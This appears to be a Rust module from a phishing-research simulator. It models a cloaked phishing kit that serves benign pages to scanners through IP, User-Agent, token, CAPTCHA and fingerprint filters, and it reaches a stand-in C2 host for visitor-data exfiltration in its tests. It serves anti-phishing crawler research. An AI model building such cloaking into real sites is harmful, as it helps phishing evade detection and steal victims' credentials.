//! The phishing site handler: server-side cloaking decisions and page
//! assembly.
//!
//! Decision order mirrors the deployed kits the paper describes: delayed
//! activation → User-Agent filtering → IP blocklist → URL token → bot
//! challenges (Turnstile, then reCAPTCHA v3 in the background) →
//! interaction gates (OTP / math challenge) → the cloaked lookalike login
//! page. Every rejection serves plausible *benign* content, never an error
//! — that is the point of cloaking.

use crate::brand::Brand;
use crate::cloak::CloakConfig;
use crate::scripts;
use cb_botdetect::{report_signature, AnonWaf, Detector, ReCaptchaV3, Turnstile};
use cb_browser::ChallengeReport;
use cb_netsim::{HttpRequest, HttpResponse, IpClass, NetContext, SiteHandler};
use std::collections::HashMap;
use std::sync::{Arc, Mutex, PoisonError};

/// Serving statistics, for the analysis phase.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ServeStats {
    /// Requests answered with the phishing page.
    pub phish_served: u64,
    /// Requests answered with benign/cloak content.
    pub benign_served: u64,
    /// Requests answered with an interaction gate.
    pub gates_served: u64,
    /// Requests bounced by counter-memory (burned egress class or
    /// blocklisted fingerprint) — a subset of `benign_served`.
    pub counter_blocked: u64,
}

/// The kit's cross-request counter-adaptation memory (DESIGN.md §16):
/// per-egress-class request counts and per-device-fingerprint sighting
/// counts. Deterministic given the request sequence the site observes —
/// the adaptive experiment deploys one site per campaign and probes it
/// serially, so the race replays bit-identically per seed.
#[derive(Debug, Default)]
struct CounterMemory {
    /// Core-path requests seen per egress class, indexed by
    /// [`IpClass::ALL`] position.
    egress_seen: [u32; 4],
    /// Sightings per device-fingerprint signature.
    profile_seen: HashMap<u64, u32>,
}

fn class_slot(class: IpClass) -> usize {
    IpClass::ALL
        .iter()
        .position(|&c| c == class)
        .expect("IpClass::ALL is exhaustive")
}

/// The default OTP-gate code kits ship with (the victim receives it out of
/// band; the corpus generator places it in the lure body).
pub const DEFAULT_OTP_CODE: &str = "491827";

/// A deployed phishing site for one campaign.
#[derive(Debug, Clone)]
pub struct PhishingSite {
    brand: Brand,
    c2_base: String,
    cloak: CloakConfig,
    /// Correct OTP for the OTP gate (sent to the victim separately).
    otp_code: String,
    stats: Arc<Mutex<ServeStats>>,
    memory: Arc<Mutex<CounterMemory>>,
    /// Also protect the site behind the commercial WAF (kits hosted behind
    /// such services inherit their bot filtering).
    waf: bool,
}

impl PhishingSite {
    /// A site impersonating `brand`, exfiltrating to `c2_base`
    /// (e.g. `"https://c2.example"`), cloaked per `cloak`.
    pub fn new(brand: Brand, c2_base: &str, cloak: CloakConfig) -> PhishingSite {
        PhishingSite {
            brand,
            c2_base: c2_base.trim_end_matches('/').to_string(),
            cloak,
            otp_code: DEFAULT_OTP_CODE.to_string(),
            stats: Arc::new(Mutex::new(ServeStats::default())),
            memory: Arc::new(Mutex::new(CounterMemory::default())),
            waf: false,
        }
    }

    /// Put the site behind the AnonWAF-style bot filter as well.
    pub fn with_waf(mut self) -> PhishingSite {
        self.waf = true;
        self
    }

    /// Set the OTP-gate code.
    pub fn with_otp_code(mut self, code: &str) -> PhishingSite {
        self.otp_code = code.to_string();
        self
    }

    /// The impersonated brand.
    pub fn brand(&self) -> Brand {
        self.brand
    }

    /// The cloaking configuration.
    pub fn cloak(&self) -> &CloakConfig {
        &self.cloak
    }

    /// Current serving statistics.
    pub fn stats(&self) -> ServeStats {
        *self.stats.lock().unwrap_or_else(PoisonError::into_inner)
    }

    fn benign(&self, why: &str) -> HttpResponse {
        self.stats
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .benign_served += 1;
        HttpResponse::html(&format!(
            r#"<html><head><title>Welcome</title></head>
<body><h2>Site under maintenance</h2>
<p>Our services will be back shortly. Thank you for your patience.</p>
<!-- cloak: {why} -->
</body></html>"#
        ))
    }

    fn gate(&self, kind: &str, prompt: &str) -> HttpResponse {
        self.stats
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .gates_served += 1;
        HttpResponse::html(&format!(
            r#"<html><body>
<h2>Verification required</h2>
<p>{prompt}</p>
<div data-requires-interaction="{kind}"></div>
<form action="?"><input type="text" name="{kind}"></form>
</body></html>"#
        ))
    }

    fn phish_page(&self) -> HttpResponse {
        self.stats
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .phish_served += 1;
        let c = &self.cloak.client;
        let mut blocks = Vec::new();
        if c.turnstile {
            blocks.push(scripts::turnstile_beacon());
        }
        if c.recaptcha_v3 {
            blocks.push(scripts::recaptcha_beacon());
        }
        if c.console_hijack {
            blocks.push(scripts::console_hijack());
        }
        if c.debugger_timer {
            blocks.push(scripts::debugger_timer(&self.c2_base));
        }
        if c.env_gate {
            blocks.push(scripts::env_gate("Europe"));
        }
        if c.fingerprint_library {
            blocks.push(scripts::fingerprint_library(&self.c2_base));
        }
        if c.exfil_visitor_data {
            blocks.push(scripts::exfil_visitor_data(&self.c2_base, c.exfil_with_geo));
        }
        if c.victim_db_check {
            blocks.push(scripts::victim_db_check(&self.c2_base));
        }
        if c.block_devtools {
            blocks.push(scripts::block_devtools());
        }
        if c.hue_rotate {
            blocks.push(scripts::hue_rotate_inject());
        }
        let html = scripts::lookalike_login(
            self.brand,
            &self.c2_base,
            &blocks,
            c.hotlink_brand_resources,
            c.hue_rotate,
            None,
        );
        HttpResponse::html(&html)
    }
}

/// Heuristic the kits use for mobile filtering.
fn is_mobile_ua(ua: &str) -> bool {
    ua.contains("iPhone") || ua.contains("Android") || ua.contains("Mobile")
}

impl SiteHandler for PhishingSite {
    fn handle(&self, req: &HttpRequest, ctx: &NetContext<'_>) -> HttpResponse {
        // Utility paths every variant serves.
        match req.url.path.as_str() {
            "/benign" | "/about" => return self.benign("utility path"),
            "/assets/logo.png" => {
                return HttpResponse::ok(
                    "image/png",
                    vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A],
                )
            }
            "/assets/background.jpg" => {
                return HttpResponse::ok("image/jpeg", vec![0xFF, 0xD8, 0xFF])
            }
            _ => {}
        }

        let s = &self.cloak.server;
        // 1. Delayed activation.
        if let Some(t0) = s.activate_at {
            if ctx.now < t0 {
                return self.benign("not yet active");
            }
        }
        // 2. User-Agent filtering (QR campaigns: mobile only).
        if s.mobile_ua_only && !is_mobile_ua(req.user_agent()) {
            return self.benign("desktop ua filtered");
        }
        // 3. IP blocklists.
        if s.block_datacenter_ips
            && matches!(
                ctx.client_class,
                cb_netsim::IpClass::Datacenter | cb_netsim::IpClass::VpnProxy
            )
        {
            return self.benign("scanner ip class");
        }
        // 4. Tokenized URL.
        if !s.token_ok(req.url.path_token()) {
            return self.benign("missing or burned token");
        }

        // 4b. Delayed reveal: a holding page that meta-refreshes into the
        // real content. Only visitors patient enough to wait out the delay
        // ever reach the steps below; the holding request itself is not
        // charged against the reputation counters, so one logical visit
        // costs one count no matter how it got here.
        let counter = &self.cloak.counter;
        if counter.reveal_delay_secs > 0 && req.url.query_param("revealed") != Some("1") {
            self.stats
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .benign_served += 1;
            let target = if req.url.query.is_empty() {
                format!("{}?revealed=1", req.url.path)
            } else {
                format!("{}?{}&revealed=1", req.url.path, req.url.query)
            };
            return HttpResponse::html(&format!(
                r#"<html><head><title>Welcome</title>
<meta http-equiv="refresh" content="{delay}; url={target}"></head>
<body><h2>Preparing your document&hellip;</h2>
<p>Please keep this page open.</p>
<!-- cloak: delayed reveal -->
</body></html>"#,
                delay = counter.reveal_delay_secs,
            ));
        }

        // 4c. Egress-class reputation memory: the first `egress_burn_after`
        // core-path requests from a class pass; afterwards the whole class
        // reads as a scanner farm rotating addresses and is burned for good.
        if counter.egress_burn_after > 0 {
            let slot = class_slot(ctx.client_class);
            let mut mem = self.memory.lock().unwrap_or_else(PoisonError::into_inner);
            let prior = mem.egress_seen[slot];
            mem.egress_seen[slot] = prior + 1;
            drop(mem);
            if prior >= counter.egress_burn_after {
                self.stats
                    .lock()
                    .unwrap_or_else(PoisonError::into_inner)
                    .counter_blocked += 1;
                return self.benign("egress class burned");
            }
        }

        // 4d. Returning-device blocklist: the same measured environment
        // (UA + tells + TLS + egress class) probing more than
        // `profile_burn_after` times is a crawler, whatever address it
        // arrives from. No-JS clients carry no attestation and are handled
        // by the challenge step below instead.
        let report = ChallengeReport::from_request(req);
        if counter.profile_burn_after > 0 {
            if let Some(r) = report.as_ref() {
                let sig = report_signature(r);
                let mut mem = self.memory.lock().unwrap_or_else(PoisonError::into_inner);
                let prior = *mem.profile_seen.get(&sig).unwrap_or(&0);
                mem.profile_seen.insert(sig, prior + 1);
                drop(mem);
                if prior >= counter.profile_burn_after {
                    self.stats
                        .lock()
                        .unwrap_or_else(PoisonError::into_inner)
                        .counter_blocked += 1;
                    return self.benign("fingerprint blocklisted");
                }
            }
        }

        // 5. Bot challenges over the client attestation (see DESIGN.md §4).
        if self.waf || self.cloak.client.turnstile || self.cloak.client.recaptcha_v3 {
            let Some(report) = report.as_ref() else {
                // no-JS clients never complete a challenge
                return self.benign("challenge unanswered");
            };
            if self.waf && !AnonWaf::default().evaluate(report).is_human() {
                return self.benign("waf block");
            }
            if self.cloak.client.turnstile && !Turnstile::default().evaluate(report).is_human() {
                return self.benign("turnstile failed");
            }
            if self.cloak.client.recaptcha_v3 && !ReCaptchaV3::default().evaluate(report).is_human()
            {
                return self.benign("recaptcha v3 low score");
            }
        }

        // 6. Interaction gates.
        if self.cloak.client.otp_gate && req.url.query_param("otp") != Some(&self.otp_code) {
            return self.gate("otp", "Enter the one-time password we sent you");
        }
        if self.cloak.client.math_challenge {
            // 17 + 25: the kind of trivial equation the paper describes.
            if req.url.query_param("answer") != Some("42") {
                return self.gate("math", "What is 17 + 25?");
            }
        }

        // 7. The phish.
        self.phish_page()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cloak::{ClientCloak, CounterCloak, ServerCloak};
    use cb_browser::{Browser, CrawlerProfile, VisitOutcome};
    use cb_netsim::Internet;
    use cb_sim::{SimDuration, SimTime};

    fn world() -> Internet {
        let net = Internet::new(SimTime::from_ymd(2024, 2, 1));
        net.register_domain("evil-site.example", "REGRU-RU");
        net.register_domain("c2.example", "REGRU-RU");
        net.host("c2.example", crate::C2Server::new());
        net
    }

    fn deploy(net: &Internet, cloak: CloakConfig) -> PhishingSite {
        let site = PhishingSite::new(Brand::Amadora, "https://c2.example", cloak);
        net.host("evil-site.example", site.clone());
        site
    }

    #[test]
    fn uncloaked_site_serves_phish_to_everyone() {
        let net = world();
        let site = deploy(&net, CloakConfig::none());
        let v = Browser::new(CrawlerProfile::Kangooroo).visit(&net, "https://evil-site.example/");
        assert!(v.shows_login_form());
        assert_eq!(site.stats().phish_served, 1);
    }

    #[test]
    fn turnstile_blocks_naive_crawlers_but_not_notabot() {
        let net = world();
        let site = deploy(&net, CloakConfig::typical_2024());
        let naive = Browser::new(CrawlerProfile::PuppeteerStealth)
            .visit(&net, "https://evil-site.example/");
        assert!(
            !naive.shows_login_form(),
            "stealth-plugin crawler must see benign page"
        );
        let nab = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(nab.shows_login_form(), "NotABot defeats Turnstile");
        assert_eq!(site.stats().benign_served, 1);
        assert_eq!(site.stats().phish_served, 1);
    }

    #[test]
    fn waf_protection_blocks_interception_artifacts() {
        let net = world();
        let site =
            PhishingSite::new(Brand::Amadora, "https://c2.example", CloakConfig::none()).with_waf();
        net.host("evil-site.example", site);
        let pup = Browser::new(CrawlerProfile::PuppeteerStealth)
            .visit(&net, "https://evil-site.example/");
        assert!(!pup.shows_login_form());
        let nab = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(nab.shows_login_form());
    }

    #[test]
    fn delayed_activation_flips_with_time() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak {
                activate_at: Some(SimTime::from_ymd(2024, 2, 2)),
                ..ServerCloak::default()
            },
            client: ClientCloak::default(),
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        let before =
            Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(!before.shows_login_form(), "inactive: benign page");
        net.advance(SimDuration::days(2));
        let after = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(after.shows_login_form(), "activated");
    }

    #[test]
    fn mobile_only_filter_requires_mobile_ua() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak {
                mobile_ua_only: true,
                ..ServerCloak::default()
            },
            client: ClientCloak::default(),
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        let desktop =
            Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(!desktop.shows_login_form());
        // a phone request
        let mut req = HttpRequest::get("https://evil-site.example/");
        req.set_header(
            "User-Agent",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Mobile/15E148",
        );
        let resp = net.request(req);
        assert!(resp.body_text().contains("password"));
    }

    #[test]
    fn tokenized_urls_gate_access_and_burn() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak {
                valid_tokens: vec!["dhfYWfH1".to_string()],
                burned_tokens: vec!["burned99".to_string()],
                ..ServerCloak::default()
            },
            client: ClientCloak::default(),
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        assert!(b
            .visit(&net, "https://evil-site.example/dhfYWfH1")
            .shows_login_form());
        assert!(!b
            .visit(&net, "https://evil-site.example/")
            .shows_login_form());
        assert!(!b
            .visit(&net, "https://evil-site.example/wrongtok")
            .shows_login_form());
        assert!(!b
            .visit(&net, "https://evil-site.example/burned99")
            .shows_login_form());
    }

    #[test]
    fn ip_blocklist_rejects_datacenter_class() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak {
                block_datacenter_ips: true,
                ..ServerCloak::default()
            },
            client: ClientCloak::default(),
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        // NotABot on a datacenter IP (the ablation profile) is filtered.
        let dc = Browser::new(CrawlerProfile::NotABotDatacenterIp)
            .visit(&net, "https://evil-site.example/");
        assert!(!dc.shows_login_form());
        let mobile =
            Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(mobile.shows_login_form());
    }

    #[test]
    fn otp_gate_requires_the_code() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak::default(),
            client: ClientCloak {
                otp_gate: true,
                ..ClientCloak::default()
            },
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        let gated = b.visit(&net, "https://evil-site.example/");
        assert_eq!(gated.outcome, VisitOutcome::InteractionRequired);
        assert!(!gated.shows_login_form());
        // the victim, who received the OTP out of band
        let through = b.visit(&net, "https://evil-site.example/?otp=491827");
        assert!(through.shows_login_form());
    }

    #[test]
    fn math_challenge_gates_until_answered() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak::default(),
            client: ClientCloak {
                math_challenge: true,
                ..ClientCloak::default()
            },
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        assert_eq!(
            b.visit(&net, "https://evil-site.example/").outcome,
            VisitOutcome::InteractionRequired
        );
        assert!(b
            .visit(&net, "https://evil-site.example/?answer=42")
            .shows_login_form());
    }

    #[test]
    fn cloaked_page_carries_configured_scripts() {
        let net = world();
        let cloak = CloakConfig {
            server: ServerCloak::default(),
            client: ClientCloak {
                console_hijack: true,
                hue_rotate: true,
                exfil_visitor_data: true,
                exfil_with_geo: true,
                ..ClientCloak::default()
            },
            counter: CounterCloak::default(),
        };
        deploy(&net, cloak);
        // httpbin/ipapi style services must exist for exfil
        net.register_domain("httpbin.example", "REG");
        net.register_domain("ipapi.example", "REG");
        net.host("httpbin.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("text/plain", b"100.0.0.9".to_vec())
        });
        net.host("ipapi.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("text/plain", b"FR;AS9999".to_vec())
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(v.shows_login_form());
        assert!(v.console_hijacked, "console methods hijacked");
        // exfil chain fired: httpbin, ipapi, c2
        assert_eq!(v.exfil.len(), 3);
        assert!(v.exfil[2].0.contains("c2.example/collect"));
    }

    #[test]
    fn egress_reputation_burns_a_repeating_class() {
        let net = world();
        let cloak = CloakConfig {
            counter: CounterCloak {
                egress_burn_after: 2,
                ..CounterCloak::default()
            },
            ..CloakConfig::none()
        };
        let site = deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        assert!(b
            .visit(&net, "https://evil-site.example/")
            .shows_login_form());
        assert!(b
            .visit(&net, "https://evil-site.example/")
            .shows_login_form());
        assert!(
            !b.visit(&net, "https://evil-site.example/")
                .shows_login_form(),
            "third request from the mobile class reads as a scanner farm"
        );
        assert_eq!(site.stats().counter_blocked, 1);
        // Rotating to a fresh egress class gets through again.
        let rotated = Browser::new(CrawlerProfile::NotABot).with_fingerprint(
            cb_browser::BrowserFingerprint {
                ip_class: cb_netsim::IpClass::Residential,
                ..CrawlerProfile::NotABot.fingerprint()
            },
        );
        assert!(rotated
            .visit(&net, "https://evil-site.example/")
            .shows_login_form());
    }

    #[test]
    fn profile_blocklist_burns_a_returning_device_but_not_a_mutated_one() {
        let net = world();
        let cloak = CloakConfig {
            counter: CounterCloak {
                profile_burn_after: 1,
                ..CounterCloak::default()
            },
            ..CloakConfig::none()
        };
        let site = deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        assert!(b
            .visit(&net, "https://evil-site.example/")
            .shows_login_form());
        assert!(
            !b.visit(&net, "https://evil-site.example/")
                .shows_login_form(),
            "the same measured environment returning is blocklisted"
        );
        assert_eq!(site.stats().counter_blocked, 1);
        // A single-axis mutation (different UA string) is a new device.
        let mutated = Browser::new(CrawlerProfile::NotABot).with_fingerprint(
            cb_browser::BrowserFingerprint {
                user_agent: "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 \
                             (KHTML, like Gecko) Chrome/121.0.0.0 Mobile Safari/537.36"
                    .to_string(),
                ..CrawlerProfile::NotABot.fingerprint()
            },
        );
        assert!(mutated
            .visit(&net, "https://evil-site.example/")
            .shows_login_form());
    }

    #[test]
    fn delayed_reveal_requires_patience() {
        let net = world();
        let cloak = CloakConfig {
            counter: CounterCloak {
                reveal_delay_secs: 120,
                ..CounterCloak::default()
            },
            ..CloakConfig::none()
        };
        deploy(&net, cloak);
        // NotABot's 60 s patience is not enough for a 120 s reveal.
        let hasty = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        assert!(!hasty.shows_login_form());
        assert!(
            hasty
                .document
                .unwrap()
                .visible_text()
                .contains("Preparing your document"),
            "impatient crawler is stuck on the holding page"
        );
        // A patient arm waits the reveal out.
        let patient = Browser::new(CrawlerProfile::NotABot)
            .with_patience(300)
            .visit(&net, "https://evil-site.example/");
        assert!(patient.shows_login_form());
        assert_eq!(patient.final_url().query, "revealed=1");
    }

    #[test]
    fn delayed_reveal_preserves_existing_query_params() {
        let net = world();
        let cloak = CloakConfig {
            client: ClientCloak {
                otp_gate: true,
                ..ClientCloak::default()
            },
            counter: CounterCloak {
                reveal_delay_secs: 30,
                ..CounterCloak::default()
            },
            ..CloakConfig::none()
        };
        deploy(&net, cloak);
        let b = Browser::new(CrawlerProfile::NotABot);
        let v = b.visit(&net, "https://evil-site.example/?otp=491827");
        assert!(
            v.shows_login_form(),
            "otp param survives the reveal redirect"
        );
        assert!(v.final_url().query.contains("otp=491827"));
        assert!(v.final_url().query.contains("revealed=1"));
    }

    #[test]
    fn benign_and_phish_counters_track() {
        let net = world();
        let site = deploy(&net, CloakConfig::typical_2024());
        for _ in 0..3 {
            Browser::new(CrawlerProfile::Lacus).visit(&net, "https://evil-site.example/");
        }
        Browser::new(CrawlerProfile::NotABot).visit(&net, "https://evil-site.example/");
        let stats = site.stats();
        assert_eq!(stats.benign_served, 3);
        assert_eq!(stats.phish_served, 1);
    }
}
